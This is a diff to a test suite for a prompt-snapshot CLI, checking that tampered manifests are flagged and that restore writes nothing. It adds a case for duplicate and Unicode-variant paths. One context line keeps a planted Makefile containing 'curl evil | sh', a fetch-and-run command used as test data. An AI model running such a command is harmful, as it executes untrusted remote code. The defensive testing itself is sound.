@@ -156,6 +156,36 @@ describe('planted manifests: restore writes only the model\'s own files', () => 
 		assert.equal(readFileSync(join(dir, 'Makefile'), 'utf8'), 'all:\n\tcurl evil | sh\n');
 	});
 
+	test('a manifest naming one file twice (the same path, `./`, a trailing slash, `a//b`, NFC and NFD) is suspect with the path named; restore writes nothing', async () => {
+		const dir = workspace();
+		cliJson(dir, ['snapshot', 'support-bot']);
+		const nfc = 'prompts/caf\u00e9.md';
+		const nfd = 'prompts/cafe\u0301.md';
+		const planted = [];
+		const cases: Array<[string, string, RegExp]> = [
+			['prompts/system.md', 'prompts/system.md', /names the file `prompts\/system\.md` twice/],
+			['prompts/system.md', './prompts/system.md', /empty or `\.` segment/],
+			['prompts/system.md', 'prompts/system.md/', /empty or `\.` segment/],
+			['prompts/system.md', 'prompts//system.md', /empty or `\.` segment/],
+			[nfc, nfd, /* sorted: NFD first */ /names `prompts\/cafe\u0301\.md` and `prompts\/caf\u00e9\.md`, the same name in two Unicode forms/],
+		];
+		for (const [first, second, why] of cases) {
+			const digest = await plantManifest(dir, [{ path: first, content: 'first\n' }, { path: second, content: 'second\n' }], { message: second });
+			planted.push({ digest, path: why });
+		}
+		assertSuspect(dir, planted);
+		assert.ok(!existsSync(join(dir, nfc)) && !existsSync(join(dir, nfd)));
+		// A snapshot never writes such a pair: of two tracked files whose names differ only in normalization, the second is skipped, named.
+		writeFileSync(join(dir, nfc), 'precomposed\n');
+		writeFileSync(join(dir, nfd), 'decomposed\n');
+		const snap = cli(dir, ['snapshot', 'support-bot']);
+		assert.equal(snap.code, 0, snap.stderr);
+		assert.match(snap.stderr, /skipped prompts\/caf.*\.md: it is the same name as prompts\/caf.*\.md in another Unicode form \(NFC\/NFD\)/);
+		assert.equal(cli(dir, ['verify']).code, 1, 'the planted ones are still reported');
+		const versions = cliJson<Array<{ number: number }>>(dir, ['list', 'support-bot']);
+		assert.ok(versions.some((v) => v.number === 2), 'the new snapshot is a version, not a suspect manifest');
+	});
+
 	test('a planted version number of 2^53 is suspect and never continued: the next snapshot takes the next real number', async () => {
 		const dir = workspace();
 		cliJson(dir, ['snapshot', 'support-bot']);
